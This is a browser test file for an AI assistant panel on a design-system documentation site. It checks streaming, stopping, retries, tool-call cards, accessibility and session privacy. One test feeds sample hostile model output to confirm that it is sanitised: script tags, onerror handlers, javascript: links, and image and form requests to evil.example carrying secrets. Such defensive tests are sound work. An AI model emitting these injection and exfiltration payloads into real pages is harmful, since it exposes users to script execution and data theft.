import { mkdir } from "node:fs/promises";
import { join } from "node:path";
import type { BrowserContextOptions } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type ModelServer, type ModelTurn, openModelServer } from "../test/model-server.ts";
import { answers, ask, drawer, field, heard, isFocused, open } from "./assistant-drawer.ts";
import { violationsOn } from "./axe.ts";
import { openExamples } from "./open-registry.ts";
import { setUpAdmin } from "./set-up-admin.ts";
import { addressOf, PHONE, useSite } from "./use-site.ts";

const SHOTS = process.env.SCREENSHOTS ? ".tmp/screenshots" : undefined;

describe("the assistant", () => {
  let model: ModelServer;
  /** What the model says next, by what it was asked. */
  let script: (words: string, number: number) => ModelTurn | Promise<ModelTurn>;
  const site = useSite(async () => {
    model = await openModelServer(({ words, number }) => script(words, number));
    const registry = await openExamples("sqlite", { SERVICE_BASE_URL: "", ...model.env() });
    return registry;
  });
  let admin: BrowserContextOptions;
  beforeAll(async () => {
    admin = await setUpAdmin(site);
  });
  afterAll(() => model?.close());
  const signedIn = (more: BrowserContextOptions = {}) => site.open({ ...more, ...admin });

  it("opens by its keys, answers, and gives the focus back", async () => {
    script = () => ({ text: ["Use **Butt", "on**. It starts", " an action."] });
    const page = await signedIn();
    await page.goto("/components/button");
    const button = page.getByRole("banner").getByRole("button", { name: "Ask" });
    await button.focus();
    await page.keyboard.press("Enter");
    await expect.poll(() => field(page).evaluate(isFocused)).toBe(true);
    await ask(page, "What starts an action?");
    await expect.poll(() => answers(page).innerText()).toContain("It starts an action.");
    // How long the model took is said after some seconds, which pass on a busy machine.
    const reported = async () => (await heard(page)).filter((text) => text !== "The model is still thinking.");
    await expect
      .poll(reported)
      .toEqual(["The assistant is answering.", "Use Button.", "It starts an action.", "The answer is complete."]);
    expect(model.asked.at(-1)?.words).toContain("What starts an action?");
    await page.keyboard.press("Escape");
    await expect.poll(() => drawer(page).isVisible()).toBe(false);
    expect(await button.evaluate(isFocused)).toBe(true);
  });

  it("shows words as they come, and stops the provider when it is stopped", async () => {
    script = () => ({ text: Array.from({ length: 2_000 }, (_, index) => `word ${index} `), paceMs: 20 });
    const page = await signedIn();
    await open(page);
    await ask(page, "Talk for long");
    await expect.poll(() => answers(page).innerText()).toContain("word 3");
    const before = model.brokenOff;
    await drawer(page).getByRole("button", { name: "Stop" }).click();
    await expect.poll(() => model.brokenOff).toBe(before + 1);
    expect(await answers(page).innerText()).toContain("Stopped.");
    expect(await field(page).evaluate(isFocused)).toBe(true);
    expect((await heard(page)).at(-1)).toBe("Stopped.");
  });

  it("a page that is left ends its question", async () => {
    script = () => ({ text: Array.from({ length: 2_000 }, (_, index) => `word ${index} `), paceMs: 20 });
    const page = await signedIn();
    await open(page);
    await ask(page, "Talk for long");
    await expect.poll(() => answers(page).innerText()).toContain("word 3");
    const before = model.brokenOff;
    await page.goto("/components");
    await expect.poll(() => model.brokenOff).toBe(before + 1);
    // The conversation is there on the next page, as far as it came.
    await expect.poll(() => answers(page).innerText()).toContain("word 3");
    expect(await answers(page).innerText()).toContain("Stopped.");
  });

  it("asks again, and a question that was edited in place of the old one", async () => {
    script = (_, number) => ({ text: `Answer ${number}.` });
    const page = await signedIn();
    await open(page);
    await ask(page, "First?");
    await expect.poll(() => answers(page).innerText()).toMatch(/Answer \d+\./);
    const first = model.asked.length;
    await drawer(page).getByRole("button", { name: "Retry" }).click();
    await expect.poll(() => answers(page).innerText()).toContain(`Answer ${first}.`);
    expect(await answers(page).count()).toBe(1);
    await drawer(page).getByRole("button", { name: "Edit the question" }).focus();
    await page.keyboard.press("Enter");
    expect(await field(page).inputValue()).toBe("First?");
    await ask(page, "Second?");
    await expect.poll(() => answers(page).innerText()).toContain(`Answer ${first + 1}.`);
    expect(await drawer(page).locator(".assistant-question p").allTextContents()).toEqual(["Second?"]);
    expect(JSON.stringify(model.asked.at(-1)?.body.messages)).not.toContain("First?");
  });

  it("reports a truncated answer and continues it", async () => {
    script = (_, number) =>
      number % 2 === 0 ? { text: "The first half", isCutShort: true } : { text: "and the second." };
    model.asked.splice(0);
    const page = await signedIn();
    await open(page);
    await ask(page, "Everything, please");
    await expect.poll(() => answers(page).innerText()).toContain("reached the length limit");
    await expect.poll(() => heard(page)).toContain("The answer was cut off.");
    await page.reload();
    await open(page);
    const goOn = drawer(page).getByRole("button", { name: "Continue" });
    await goOn.click();
    await expect.poll(() => answers(page).last().innerText()).toContain("and the second.");
    expect(model.asked.at(-1)?.body.messages).toContainEqual({ role: "assistant", content: "The first half" });
    expect(await goOn.isVisible()).toBe(false);
    expect(await answers(page).last().innerText()).not.toContain("reached the length limit");
  });

  it("continues the conversation, and starts a new one", async () => {
    script = (_, number) => ({ text: `Answer ${number}.` });
    const page = await signedIn();
    await open(page);
    await ask(page, "One?");
    await expect.poll(() => answers(page).last().innerText()).toMatch(/Answer \d+\./);
    await ask(page, "Two?");
    await expect.poll(() => answers(page).count()).toBe(2);
    await expect.poll(() => answers(page).last().innerText()).toMatch(/Answer \d+\./);
    const sent = model.asked
      .at(-1)
      ?.body.messages.map(({ role }) => role)
      .filter((role) => role !== "system");
    expect(sent).toEqual(["user", "assistant", "user"]);
    await drawer(page).getByRole("button", { name: "New conversation" }).click();
    expect(await answers(page).count()).toBe(0);
    await page.reload();
    await expect.poll(() => drawer(page).getByRole("list", { name: "Suggested questions" }).isVisible()).toBe(true);
  });

  it("sends a question entered during an answer after that answer is complete", async () => {
    script = (words) => (words.includes("Two?") ? { text: "Second." } : { text: ["First", " part", "."], paceMs: 400 });
    const page = await signedIn();
    await open(page);
    await ask(page, "One?");
    await expect.poll(() => answers(page).count()).toBe(1);
    await ask(page, "Two?");
    await expect.poll(() => heard(page)).toContain("Your question is sent when the current answer is complete.");
    const queued = drawer(page).locator(".assistant-queued");
    expect(await queued.isVisible()).toBe(true);
    await expect
      .poll(() => answers(page).allInnerTexts())
      .toEqual([expect.stringContaining("First part."), expect.stringContaining("Second.")]);
    expect(await field(page).inputValue()).toBe("");
    expect(await queued.isVisible()).toBe(false);
  });

  it("two tabs do not disturb each other", async () => {
    script = (words) => ({ text: words.includes("left tab") ? "For the left." : "For the right." });
    const page = await signedIn();
    const other = await page.context().newPage();
    await Promise.all([open(page), open(other, "/components")]);
    await Promise.all([ask(page, "From the left tab"), ask(other, "From the right tab")]);
    await expect.poll(() => answers(page).allInnerTexts()).toEqual([expect.stringContaining("For the left.")]);
    await expect.poll(() => answers(other).allInnerTexts()).toEqual([expect.stringContaining("For the right.")]);
  });

  it("copies an answer as markdown", async () => {
    script = () => ({ text: "Use **Button**:\n\n- once" });
    const page = await signedIn({ permissions: ["clipboard-read", "clipboard-write"] });
    await open(page);
    await ask(page, "Which?");
    await drawer(page).getByRole("button", { name: "Copy", exact: true }).click();
    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe("Use **Button**:\n\n- once");
  });

  it("asks about the subject of the page", async () => {
    script = () => ({ text: "It is a surface." });
    const page = await signedIn();
    await page.goto("/foundations/tokens/color.surface.page");
    await page.getByRole("button", { name: "Ask about this: color.surface.page" }).click();
    await drawer(page).getByRole("button", { name: "What is this token for?" }).click();
    await expect.poll(() => answers(page).innerText()).toContain("It is a surface.");
    expect(model.asked.at(-1)?.words).toContain("About the token `color.surface.page`: What is this token for?");
    await page.goto("/patterns/booking-form");
    expect(await page.getByRole("button", { name: /^Ask about / }).isVisible()).toBe(true);
  });

  it("shows blocks as safe HTML, cards of components, links to press, sources and findings", async () => {
    script = (_, number) =>
      calls-- > 0
        ? {
            calls: [
              { id: `a${number}`, name: "show_components", input: { ids: ["button", "card"] } },
              { id: `b${number}`, name: "navigate_pattern", input: { id: "booking-form" } },
            ],
          }
        : { text: ANSWER.match(/[\s\S]{1,12}/g) ?? [] };
    let calls = 1;
    const page = await signedIn();
    await open(page, "/components/button");
    await ask(page, "Which button do I use for a destructive action?");
    await expect.poll(() => drawer(page).getByRole("button", { name: "Copy", exact: true }).isVisible()).toBe(true);
    const answer = answers(page);
    expect(await answer.getByRole("heading", { name: "How it looks" }).count()).toBe(1);
    expect(await answer.locator("figure.code [data-copy-code]").count()).toBe(1);
    expect(await answer.locator(".assistant-pending").count()).toBe(0);
    const cards = answer.getByRole("list", { name: "Components" });
    await expect
      .poll(() => cards.getByRole("link", { name: "Button", exact: true }).getAttribute("href"))
      .toBe("/components/button");
    await expect.poll(() => cards.locator("iframe").first().getAttribute("sandbox")).toBe("allow-scripts allow-forms");
    expect(await answer.getByRole("link", { name: "Open pattern booking-form" }).getAttribute("href")).toBe(
      "/patterns/booking-form",
    );
    expect(addressOf(page)).toBe("/components/button");
    expect(await answer.getByRole("navigation", { name: "Sources" }).getByRole("link").count()).toBeGreaterThan(0);
    expect(await violationsOn(page)).toEqual([]);
    if (SHOTS) await page.screenshot({ path: join(SHOTS, "assistant-cards.png") });
    site.forgive();
  });

  it("shows check findings below the code, with replacements", async () => {
    script = () => ({ text: ["Like this:\n\n```css\n.notice { color: #fee", "be3; }\n```\n\nThat is all."] });
    const page = await signedIn();
    await open(page);
    await ask(page, "How do I color a notice?");
    await expect.poll(() => drawer(page).getByRole("button", { name: "Copy", exact: true }).isVisible()).toBe(true);
    const findings = answers(page).locator("figure.code + ul").getByRole("listitem");
    expect(await findings.count()).toBeGreaterThan(0);
    expect(await findings.first().innerText()).toMatch(/^Line 1: .*var\(--color-highlight-100\)/s);
    if (SHOTS) await page.screenshot({ path: join(SHOTS, "assistant-findings.png") });
  });

  it("the button of the bar closes the assistant, and the field keeps its text", async () => {
    const page = await signedIn();
    await page.goto("/docs");
    const button = page.getByRole("banner").getByRole("button", { name: "Ask" });
    await button.click();
    // What is written is kept for whom it is: that has to be known first.
    await expect.poll(() => drawer(page).getByRole("list", { name: "Suggested questions" }).isVisible()).toBe(true);
    await field(page).fill("Half a question");
    expect(await button.getAttribute("aria-expanded")).toBe("true");
    await button.click();
    await expect.poll(() => drawer(page).isVisible()).toBe(false);
    expect(await button.getAttribute("aria-expanded")).toBe("false");
    await button.click();
    await page.getByRole("navigation", { name: "Sections" }).getByRole("link", { name: "Components" }).click();
    await expect.poll(() => addressOf(page)).toBe("/components");
    await expect.poll(() => field(page).inputValue()).toBe("Half a question");
    // The page has the focus, not the panel that was open before it.
    expect(await field(page).evaluate(isFocused)).toBe(false);
  });

  it("a hostile model's answer runs no script and sends no request", async () => {
    script = () => ({
      text: [
        "<img src=x onerror=\"document.title='owned'\"> <script>document.title='owned'</script>\n\n",
        "![a](https://evil.example/?q=secret) [go](javascript:document.title='owned') [out](https://evil.example/?q=1)\n\n",
        "<iframe src=https://evil.example></iframe><style>*{display:none}</style>\n\n",
        "<form action=https://evil.example><button>Sign in</button></form> <a href='/sign-out' data-ask data-copy=x>x</a>",
      ],
    });
    const page = await signedIn();
    await open(page);
    const title = await page.title();
    await ask(page, "Be evil");
    await expect.poll(() => drawer(page).getByRole("button", { name: "Copy", exact: true }).isVisible()).toBe(true);
    await page.waitForLoadState("networkidle");
    expect(await page.title()).toBe(title);
    const text = answers(page).locator(".assistant-text");
    expect(
      await text.locator("script, iframe, form, style, img, [onerror], [href^=javascript], [href*=evil]").count(),
    ).toBe(0);
    // That nothing went to another host is looked at by `useSite`.
  });

  it("shows the error and its remedy, and asks again", async () => {
    script = (_, number) => (failures-- > 0 ? { status: 500, message: `broken ${number}` } : { text: "Now it works." });
    // A fault is asked about once more before anybody hears of it.
    let failures = 2;
    const page = await signedIn();
    await open(page);
    await ask(page, "Does it work?");
    await expect.poll(() => drawer(page).getByRole("alert").isVisible()).toBe(true);
    await drawer(page).getByRole("button", { name: "Retry" }).click();
    await expect.poll(() => answers(page).innerText()).toContain("Now it works.");
    expect(await drawer(page).getByRole("alert").count()).toBe(0);
    site.forgive();
  });

  it("offers sign-in and the search to signed-out readers, and sends no question", async () => {
    const page = await site.open();
    await page.goto("/docs");
    await page.getByRole("banner").getByRole("button", { name: "Ask" }).click();
    const link = drawer(page).getByRole("link", { name: "Sign in" });
    await expect.poll(() => link.getAttribute("href")).toBe("/sign-in?next=%2Fdocs");
    expect(await violationsOn(page)).toEqual([]);
    if (SHOTS) await page.screenshot({ path: join(SHOTS, "assistant-signed-out.png") });
    await drawer(page).getByRole("link", { name: "Search instead" }).click();
    await expect.poll(() => page.getByRole("combobox", { name: "Search" }).isVisible()).toBe(true);
  });

  it("a conversation is not visible to the next person in the tab", async () => {
    script = () => ({ text: "For Ada alone." });
    const page = await signedIn();
    await open(page);
    await ask(page, "Secret question");
    await expect.poll(() => answers(page).innerText()).toContain("For Ada alone.");
    await page.context().clearCookies();
    await page.goto("/docs");
    await expect.poll(() => drawer(page).getByRole("link", { name: "Sign in" }).isVisible()).toBe(true);
    expect(await drawer(page).innerText()).not.toContain("Secret question");
    await expect
      .poll(() => page.evaluate(() => JSON.stringify({ ...sessionStorage, ...localStorage })))
      .not.toContain("Secret");
  });

  it("is a sheet on a phone, keeps the focus inside, and returns it", async () => {
    script = () => ({ text: "Use Button." });
    const page = await signedIn({ ...PHONE, reducedMotion: "reduce" });
    await page.goto("/components/button");
    const dock = page.getByRole("navigation", { name: "Quick navigation" });
    await dock.getByRole("button", { name: "Ask" }).tap();
    await expect.poll(() => field(page).evaluate(isFocused)).toBe(true);
    const { x, y, width, height } = (await drawer(page).boundingBox()) ?? {};
    expect([x, y, width, height]).toEqual([0, 0, 390, 844]);
    await ask(page, "Which?");
    await expect.poll(() => answers(page).innerText()).toContain("Use Button.");
    for (let turn = 0; turn < 12; turn += 1) {
      await page.keyboard.press("Tab");
      expect(await page.evaluate(() => document.activeElement?.closest("dialog, body")?.tagName)).not.toBe("MAIN");
      expect(await page.evaluate(() => document.activeElement?.closest("main, header.r-bar"))).toBeNull();
    }
    expect(await violationsOn(page)).toEqual([]);
    await drawer(page).getByRole("button", { name: "Close the assistant" }).tap();
    await expect.poll(() => drawer(page).isVisible()).toBe(false);
    // The next page is not covered; the conversation is there when it is opened.
    await page.goto("/docs");
    expect(await drawer(page).count()).toBe(0);
    await dock.getByRole("button", { name: "Ask" }).tap();
    await expect.poll(() => answers(page).innerText()).toContain("Use Button.");
  });

  it("is nothing without scripts, and costs a page nothing until it is opened", async () => {
    const page = await site.open({ javaScriptEnabled: false });
    await page.goto("/components/button");
    expect(await page.getByRole("button", { name: /^Ask/ }).count()).toBe(0);
    const scripted = await site.open();
    const loaded: string[] = [];
    scripted.on(
      "response",
      (response) =>
        void response.text().then(
          (text) => loaded.push(text),
          () => {},
        ),
    );
    await scripted.goto("/components/button", { waitUntil: "networkidle" });
    expect(loaded.length).toBeGreaterThan(3);
    expect(loaded.filter((text) => text.includes("assistant-turns"))).toEqual([]);
  });

  it.runIf(SHOTS).each<[string, BrowserContextOptions, string]>([
    ["light", {}, "/components/button"],
    ["dark", { colorScheme: "dark" }, "/foundations/tokens/color.surface.page"],
    ["phone", { ...PHONE, deviceScaleFactor: 2 }, "/patterns/booking-form"],
    ["rtl", {}, "/docs/brand-arabic"],
  ])("pictures, %s", async (look, options, path) => {
    await mkdir(SHOTS ?? "", { recursive: true });
    script = () => ({ text: ANSWER.match(/[\s\S]{1,12}/g) ?? [] });
    const page = await signedIn(options);
    await page.goto(path);
    await page.screenshot({ path: join(SHOTS ?? "", `assistant-${look}-page.png`) });
    await page.keyboard.press("Control+j");
    await expect.poll(() => field(page).isVisible()).toBe(true);
    await expect.poll(() => drawer(page).getByRole("list", { name: "Suggested questions" }).count()).toBe(1);
    await page.screenshot({ path: join(SHOTS ?? "", `assistant-${look}-begin.png`) });
    await ask(page, "Which button do I use for a destructive action, and how does it look?");
    await expect.poll(() => drawer(page).getByRole("button", { name: "Copy", exact: true }).isVisible()).toBe(true);
    await page.waitForLoadState("networkidle");
    await page.screenshot({ path: join(SHOTS ?? "", `assistant-${look}-answer.png`) });
  });
});

const ANSWER = `Use **Button** with \`variant="danger"\`. It says that something is lost.

## How it looks

\`\`\`html
<button class="button button--danger">Delete booking</button>
\`\`\`

- Name what is deleted.
- Ask before, with a [Dialog](/components/dialog).

The background is \`color.surface.page\`.`;
